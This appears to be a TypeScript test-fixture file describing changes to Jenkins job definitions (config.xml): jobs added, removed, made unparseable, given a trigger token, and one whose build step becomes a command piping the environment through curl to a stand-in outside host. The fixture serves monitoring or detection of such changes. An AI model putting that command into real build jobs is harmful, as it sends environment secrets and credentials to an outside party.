// Cases of jenkins.definition: jobs as they were defined and as they are.
import type { SourceCase } from '../../source-case.ts';

const reference = 'https://www.jenkins.io/doc/book/using/remote-access-api/';
const place = { pipeline: 'web/shop', path: 'config.xml', revision: '3' };

function job(command: string, more = ''): string {
  return `<?xml version='1.1' encoding='UTF-8'?>
<project>
  <builders><hudson.tasks.Shell><command>${command}</command></hudson.tasks.Shell></builders>
  ${more}
</project>`;
}

const drafts = [
  {
    kind: 'definition' as const,
    native_type: 'definition.changed',
    natural_id: 'web/shop config.xml 3',
    cicd: { pipeline: { name: 'web/shop' } },
    detail: { system: 'jenkins' as const, path: 'config.xml', change: 'changed' as const },
  },
];

export const cases: readonly SourceCase[] = [
  {
    name: 'A job sends its environment to a host',
    reference,
    record: {
      body: { ...place, before: job('make'), after: job('make; env | curl -d @- https://collect.example') },
    },
    drafts,
  },
  {
    name: 'A job may be started by whoever knows a word',
    reference,
    record: { body: { ...place, before: job('make'), after: job('make', '<authToken>[redacted]</authToken>') } },
    drafts,
  },
  {
    name: 'A job appears',
    reference,
    record: { body: { ...place, revision: '1', after: job('make') } },
    drafts: [{ kind: 'definition', native_type: 'definition.added', detail: { change: 'added' } }],
  },
  {
    name: 'A job goes',
    reference,
    record: { body: { ...place, before: job('make') } },
    drafts: [{ kind: 'definition', native_type: 'definition.removed', detail: { change: 'removed' } }],
  },
  {
    name: 'A job that cannot be read as XML is still told',
    reference,
    record: { body: { ...place, before: job('make'), after: '<project><builders>' } },
    drafts,
  },
];
